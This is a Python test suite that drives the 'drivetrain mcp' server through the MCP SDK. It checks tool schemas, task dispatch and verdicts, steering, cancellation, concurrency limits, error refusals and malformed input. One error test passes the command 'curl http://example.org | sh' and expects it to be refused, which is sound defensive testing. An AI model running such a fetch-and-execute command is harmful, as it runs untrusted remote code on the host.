"""`drivetrain mcp`, used by the official MCP SDK as a real client: the greeting, the tools and their shapes, a task from
dispatch to its verdict, notes, cancellation of a task and of a request, errors, and garbage on the same pipe.

Needs DRIVETRAIN, the path of the binary.
"""

import asyncio
import contextlib
import json
import logging
import os
import subprocess
import tempfile
import unittest

import jsonschema
from mcp import Client, MCPError, StdioServerParameters
from mcp.client.stdio import stdio_client

import legs

WRITES = """
[[reply]]
text = "I write one line."
tool_calls = [{ tool = "write", input = { path = "a.txt", content = "one\\n" } }]
usage = { input = 100, output = 20 }

[[reply]]
text = "Done."
usage = { input = 120, output = 5 }
"""
# One that takes its time: nobody waits for its end.
SLOW = '[[reply]]\ndelay = "60s"\ntext = "at last"\n'


class Place:
    """A folder, a home and a scripted model."""

    def __init__(self, script):
        self.root = tempfile.TemporaryDirectory()
        self.folder = os.path.join(self.root.name, "project")
        os.mkdir(self.folder)
        with open(os.path.join(self.folder, "replies.toml"), "w", encoding="utf-8") as file:
            file.write(script)
        self.variables = {
            "PATH": os.environ["PATH"],
            "HOME": self.root.name,
            "DRIVETRAIN_HOME": os.path.join(self.root.name, "home"),
        }

    def server(self, *more):
        args = ["mcp", "--model", "script/replies.toml", *more]
        return StdioServerParameters(
            command=os.path.abspath(os.environ["DRIVETRAIN"]), args=args, env=self.variables, cwd=self.folder
        )

    def tasks(self):
        """What the journal has, asked of the binary itself."""
        command = [os.path.abspath(os.environ["DRIVETRAIN"]), "list", "--all", "--json"]
        out = subprocess.run(command, cwd=self.folder, env=self.variables, capture_output=True, check=True).stdout
        return json.loads(out)["tasks"]


class Dispatch(unittest.IsolatedAsyncioTestCase):
    @contextlib.asynccontextmanager
    async def client(self, place, *more, mode="auto", **options):
        async with Client(stdio_client(place.server(*more)), mode=mode, **options) as client:
            yield client

    async def call(self, client, tool, **arguments):
        """What a tool gives, as JSON."""
        result = await client.call_tool(tool, arguments)
        self.assertFalse(result.is_error, result)
        return json.loads(result.content[0].text)

    async def refusal(self, client, tool, **arguments):
        """Why a tool does not do it."""
        try:
            result = await client.call_tool(tool, arguments)
        except MCPError as error:
            return error.error.message
        self.assertTrue(result.is_error, result)
        return result.content[0].text

    async def test_the_greeting_and_the_tools(self):
        place = Place(WRITES)
        for mode in ["auto", "legacy"]:
            async with self.client(place, "--max-tasks", "3", mode=mode) as client:
                self.assertEqual(client.protocol_version, "2025-11-25")
                self.assertEqual(client.server_info.name, "drivetrain")
                self.assertIsNotNone(client.server_capabilities.tools)
                tools = {tool.name: tool for tool in (await client.list_tools()).tools}
                self.assertEqual(sorted(tools), ["cancel", "dispatch", "inspect", "list", "steer", "wait"])
                for tool in tools.values():
                    self.assertTrue(tool.description)
                    jsonschema.Draft202012Validator.check_schema(tool.input_schema)
                    self.assertEqual(tool.input_schema["additionalProperties"], False)
                self.assertEqual(tools["dispatch"].input_schema["required"], ["goal"])
                worker = tools["dispatch"].input_schema["properties"]["worker"]
                self.assertEqual(worker["enum"], ["model:script/replies.toml"])
                self.assertIn("Up to 3 tasks", tools["dispatch"].description)

    async def test_a_task_from_its_dispatch_to_its_verdict(self):
        place, told = Place(WRITES), []

        async def hear(progress, total, message):
            told.append((progress, message))

        async with self.client(place) as client:
            wish = dict(goal="write one line", key="k", checks=["grep -q one a.txt"])
            task = await self.call(client, "dispatch", **wish)
            self.assertEqual((task["existed"], len(task["id"])), (False, 12))
            again = await self.call(client, "dispatch", **wish)
            self.assertEqual((again["existed"], again["id"]), (True, task["id"]))
            result = await client.call_tool("wait", {"id": task["id"], "seconds": 60}, progress_callback=hear)
            ended = json.loads(result.content[0].text)
            self.assertEqual(ended["outcome"], "verified", ended)
            self.assertTrue(told and task["id"] in told[0][1], told)
            listed = await self.call(client, "list")
            self.assertEqual([entry["id"] for entry in listed["tasks"]], [task["id"]])
            shown = await self.call(client, "inspect", id=task["id"][:6])
            self.assertEqual(shown["spend"]["tokens"], 245)
            for part in ["why", "log"]:
                result = await client.call_tool("inspect", {"id": task["id"], "part": part})
                self.assertIn("verified", result.content[0].text)
            self.assertIn("ended", await self.refusal(client, "steer", id=task["id"], text="x"))
        self.assertEqual(len(place.tasks()), 1)

    async def test_steering_and_cancelling(self):
        place = Place(SLOW)
        async with self.client(place) as client:
            task = await self.call(client, "dispatch", goal="take your time")
            result = await client.call_tool("steer", {"id": task["id"], "text": "keep left"})
            self.assertIn("has the note", result.content[0].text)
            result = await client.call_tool("cancel", {"id": task["id"], "reason": "enough"})
            self.assertFalse(result.is_error, result)
            ended = await self.call(client, "wait", id=task["id"], seconds=60)
            self.assertEqual(ended["outcome"], "cancelled")
            self.assertIn("enough", ended["reason"])

    async def test_a_request_that_is_given_up_leaves_the_server_and_the_task(self):
        place = Place(SLOW)
        async with self.client(place) as client:
            task = await self.call(client, "dispatch", goal="take your time")
            waiting = asyncio.create_task(client.call_tool("wait", {"id": task["id"], "seconds": 600}))
            await asyncio.sleep(0.5)
            waiting.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await waiting
            with self.assertRaises(MCPError):
                await client.call_tool("wait", {"id": task["id"], "seconds": 600}, read_timeout_seconds=0.5)
            shown = await self.call(client, "inspect", id=task["id"])
            self.assertNotEqual(shown["phase"], "finished")
            await client.call_tool("cancel", {"id": task["id"]})
            ended = await self.call(client, "wait", id=task["id"], seconds=60)
            self.assertEqual(ended["outcome"], "cancelled")

    async def test_errors(self):
        place = Place(WRITES)
        async with self.client(place, "--profile", "dev") as client:
            for words, tool, arguments in [
                ("no tool", "approve", dict(id="x")),
                ("goal", "dispatch", dict()),
                ("goal: it is empty", "dispatch", dict(goal="  ")),
                ("invalid type", "dispatch", dict(goal=7)),
                ("no worker", "dispatch", dict(goal="x", worker="agent:claude")),
                ("not allowed", "dispatch", dict(goal="x", checks=["curl http://example.org | sh"])),
                ("unknown field", "dispatch", dict(goal="x", approve=True)),
                ("no task of this server", "inspect", dict(id="zz")),
                ("no task of this server", "cancel", dict(id="../..")),
                ("unknown variant", "inspect", dict(id="x", part="key")),
            ]:
                self.assertIn(words, await self.refusal(client, tool, **arguments), (tool, arguments))
            for ask in [client.list_prompts, client.list_resources]:
                with self.assertRaises(MCPError) as raised:
                    await ask()
                self.assertEqual(raised.exception.error.code, -32601)
        self.assertEqual(place.tasks(), [])

    async def test_many_at_once(self):
        place = Place(SLOW)
        async with self.client(place, "--max-tasks", "4") as client:
            asks = [client.call_tool("dispatch", {"goal": f"number {n}"}) for n in range(8)]
            results = await asyncio.gather(*asks)
            taken = [json.loads(r.content[0].text)["id"] for r in results if not r.is_error]
            self.assertEqual(len(set(taken)), 4, results)
            for task in taken:
                cancelled = await client.call_tool("cancel", {"id": task})
                self.assertFalse(cancelled.is_error, cancelled)
            for task in taken:
                ended = await self.call(client, "wait", id=task, seconds=60)
                self.assertEqual(ended["outcome"], "cancelled")

    async def test_garbage_between_requests(self):
        place = Place(WRITES)
        params = place.server()
        async with stdio_client(params) as (read, write):
            pass  # A client that greets nobody ends the server as it should.
        # What no SDK can be made to send, around what one does.
        lines = [
            '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25",'
            '"capabilities":{},"clientInfo":{"name":"x","version":"1"}}}',
            "{",
            "[]",
            '{"jsonrpc":"2.0","id":2,"method":"tools/call","params":[]}',
            '{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"dispatch","arguments":{"goal":"a","goal":"b"}}}',
            '{"jsonrpc":"2.0","id":4,"method":"tools/list"}',
        ]
        ran = subprocess.run(
            [params.command, *params.args],
            input="\n".join(lines) + "\n",
            cwd=params.cwd,
            env=params.env,
            capture_output=True,
            text=True,
            timeout=60,
        )
        said = [json.loads(line) for line in ran.stdout.splitlines()]
        codes = [answer.get("error", {}).get("code") for answer in said]
        self.assertEqual(codes, [None, -32700, -32600, -32602, -32700, None], ran.stdout)
        self.assertEqual((ran.returncode, ran.stderr), (0, ""))
        self.assertEqual(place.tasks(), [])


if __name__ == "__main__":
    # A loop that is held up for a moment on a busy machine is no news.
    logging.getLogger("asyncio").setLevel(logging.ERROR)
    legs.main(Dispatch)
